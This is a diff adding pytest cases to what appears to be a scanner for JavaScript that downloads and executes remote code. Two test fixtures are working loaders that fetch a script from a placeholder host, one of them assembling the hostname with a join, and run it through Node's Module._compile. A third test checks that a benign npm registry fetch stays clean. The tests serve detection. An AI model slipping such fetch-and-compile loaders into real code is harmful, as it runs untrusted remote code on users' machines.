@@ -59,3 +59,47 @@ def test_a_module_made_for_resolution_and_a_json_fetch_is_clean(tmp_path: Path) 
         "console.log((await res.json())['dist-tags'].latest, m.paths.length);\n",
     )
     assert not [c for c in found if c.kind in (Kind.EXEC_FETCHED, Kind.EXEC_DYNAMIC, Kind.EXEC_DECODED)]
+
+
+def test_new_module_constructor_of_the_running_file_compiles_a_fetched_body(tmp_path: Path) -> None:
+    # CommonJS's free `module` is a Module: its constructor is the class, no require('module') needed
+    found = analyse(
+        tmp_path,
+        "const mirror = ['cdn', 'plate-lookup', 'example'].join('.');\n"
+        "fetch(`https://${mirror}/tables/current.js`)\n"
+        "  .then((r) => r.text())\n"
+        "  .then((src) => {\n"
+        "    const loaded = new module.constructor();\n"
+        "    loaded._compile(src, __dirname + '/tables.js');\n"
+        "  });\n",
+    )
+    assert fetched(found) == {"https://cdn.plate-lookup.example/tables/current.js"}
+
+
+def test_the_running_files_own_module_compiles_a_fetched_body(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        "const https = require('https');\n"
+        "https.get('https://198.51.100.9/patch.js', (res) => {\n"
+        "  const chunks = [];\n"
+        "  res.on('data', (c) => chunks.push(c));\n"
+        "  res.on('end', () => require.main._compile(Buffer.concat(chunks).toString(), 'patch.js'));\n"
+        "});\n",
+    )
+    assert fetched(found) == {"https://198.51.100.9/patch.js"}
+
+
+def test_module_exports_and_a_json_fetch_stay_clean(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        "const https = require('https');\n"
+        "function latest(cb) {\n"
+        "  https.get('https://registry.npmjs.org/prettier', (res) => {\n"
+        "    let body = '';\n"
+        "    res.on('data', (c) => (body += c));\n"
+        "    res.on('end', () => cb(JSON.parse(body)['dist-tags'].latest, module.constructor.name));\n"
+        "  });\n"
+        "}\n"
+        "module.exports = { latest };\n",
+    )
+    assert not [c for c in found if c.kind in (Kind.EXEC_FETCHED, Kind.EXEC_DYNAMIC, Kind.EXEC_DECODED)]
